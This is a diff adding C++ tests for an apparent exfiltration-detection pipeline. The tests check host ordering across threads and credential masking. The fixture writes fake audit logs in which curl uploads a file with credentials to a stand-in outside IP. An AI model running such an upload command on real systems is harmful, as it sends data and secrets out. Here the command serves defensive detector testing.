@@ -1,0 +1,126 @@
+#include "auexfil/pipeline/pipeline.hpp"
+
+#include <atomic>
+#include <filesystem>
+
+#include "../facts/host_with_cron.hpp"
+#include "../input/files.hpp"
+#include "auexfil/facts/mask.hpp"
+
+/// A front end of its own: no command line, no terminal.
+namespace auexfil::test {
+namespace {
+
+struct Collected final : facts::Stage {
+  std::vector<facts::Fact> facts;
+  std::vector<coverage::HostCoverage> hosts;
+  bool is_in_order = true;  ///< no fact of a host comes behind its coverage
+
+  void on_fact(const facts::Fact& fact, const facts::FactDetails& /*details*/) override {
+    for (const coverage::HostCoverage& host : hosts) {
+      is_in_order = is_in_order && host.host != fact.host;
+    }
+    facts.push_back(fact);
+  }
+  void on_host(const coverage::HostCoverage& host) override { hosts.push_back(host); }
+};
+
+struct Heard final : pipeline::Observer {
+  std::vector<std::string> messages;
+  std::atomic<std::uint64_t> bytes = 0;
+
+  void on_message(std::string_view /*kind*/, const std::string& text) override {
+    messages.push_back(text);
+  }
+  void on_bytes(std::uint64_t more) override { bytes += more; }
+};
+
+/// Five hosts, one folder each, and a folder that holds no log.
+class Fleet {
+ public:
+  Fleet() {
+    for (int i = 0; i < 5; ++i) {
+      CronHost log;
+      const int curl =
+          log.tool("/usr/bin/curl", {"curl", "-u", "me:secret", "-T", "f", "http://203.0.113.7/"});
+      log.tcp(curl, 5, "203.0.113.7", 80);
+      log.send(curl, 5, 1000 * (i + 1));
+      log.done(curl, 5);
+      folder_.write("host" + std::to_string(i) + "/audit.log", log.text());
+    }
+    folder_.write("other/notes.txt", "no audit log\n");
+  }
+
+  [[nodiscard]] pipeline::Inputs inputs() const {
+    std::vector<std::string> paths;
+    for (const char* name : {"host0", "host1", "host2", "host3", "host4", "other/notes.txt"}) {
+      paths.push_back((std::filesystem::path(folder_.path()) / name).string());
+    }
+    return pipeline::find_inputs("", paths);
+  }
+
+ private:
+  input::test::TempFolder folder_;
+};
+
+}  // namespace
+
+TEST_CASE("pipeline: hosts are followed by themselves and handed on in order, on any threads") {
+  const Fleet fleet;
+  const pipeline::Inputs inputs = fleet.inputs();
+  std::vector<facts::Fact> first;
+  for (const unsigned threads : {1U, 2U, 8U}) {
+    CAPTURE(threads);
+    pipeline::Options options;
+    options.threads = threads;
+    Collected collected;
+    Heard heard;
+    const coverage::ReadSummary summary =
+        pipeline::run_hosts(inputs, options, {rules().tools, rules().signs}, collected, heard);
+    REQUIRE(collected.facts.size() == 5);
+    CHECK(collected.hosts.size() == 5);
+    CHECK(collected.is_in_order);
+    for (std::uint64_t i = 0; i < 5; ++i) {
+      CHECK(collected.facts[i].bytes_out == 1000 * (i + 1));
+      CHECK(collected.facts[i].host == collected.hosts[i].host);
+    }
+    CHECK(heard.bytes == inputs.total_bytes);
+    CHECK_FALSE(summary.complete);
+    REQUIRE(heard.messages.size() >= 1);
+    if (first.empty()) {
+      first = collected.facts;
+    }
+    CHECK(collected.facts == first);
+  }
+}
+
+TEST_CASE("pipeline: facts come masked where a redactor is given, and as they are where not") {
+  const Fleet fleet;
+  const pipeline::Inputs inputs = fleet.inputs();
+  for (const bool masked : {false, true}) {
+    facts::Masker masker;
+    pipeline::Options options;
+    options.redactor = masked ? &masker : nullptr;
+    Collected collected;
+    Heard heard;
+    static_cast<void>(
+        pipeline::run_hosts(inputs, options, {rules().tools, rules().signs}, collected, heard));
+    REQUIRE_FALSE(collected.facts.empty());
+    CHECK(collected.facts.front().process.argv.at(2) == (masked ? "me:****" : "me:secret"));
+    for (const facts::Fact& fact : collected.facts) {
+      CHECK((facts::masked(fact) == fact) == masked);
+    }
+  }
+}
+
+TEST_CASE("pipeline: bare events, of all sets") {
+  const Fleet fleet;
+  Heard heard;
+  std::uint64_t events = 0;
+  const coverage::ReadSummary summary = pipeline::run_events(
+      fleet.inputs(), {}, [&](const audit::Event&, const input::LogSet&) { ++events; }, heard);
+  CHECK(events > 0);
+  CHECK(events == summary.events);
+}
+
+}  // namespace auexfil::test
